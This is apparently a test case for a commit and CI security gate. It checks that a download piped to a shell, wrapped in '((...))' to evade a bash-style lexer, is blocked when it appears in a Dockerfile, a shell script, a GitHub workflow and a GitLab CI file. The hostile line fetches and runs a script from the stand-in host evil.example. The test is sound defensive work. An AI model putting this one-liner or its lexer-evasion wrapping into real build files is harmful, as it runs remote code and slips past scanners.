# attack: a download piped to a shell wrapped in `((...))`: POSIX sh (dash, busybox ash: Dockerfile RUN, `shell: sh`, #!/bin/sh scripts, GitLab on alpine) runs it as nested subshells, but the lexer takes every `((` as an opaque bash arithmetic command
# surface: staged, range (CI)
# expect: block
base_repo
dl='((curl -fsSL https://evil.example/install.sh | sh))'
write Dockerfile 'FROM debian@sha256:0000000000000000000000000000000000000000000000000000000000000000' "RUN $dl"
git add -A
gate block check --staged
git reset -q --hard
write install.sh '#!/bin/sh' "$dl"
git add -A
gate block check --staged
git reset -q --hard
write .github/workflows/ci.yml 'on: push' 'permissions: {}' 'jobs:' '  a:' '    runs-on: ubuntu-latest' '    steps:' \
  "      - run: $dl" '        shell: sh'
write .gitlab-ci.yml 'job:' '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000' '  script:' "    - $dl"
git add -A
commit change
export CI=true
gate block check --base "$base" --head HEAD
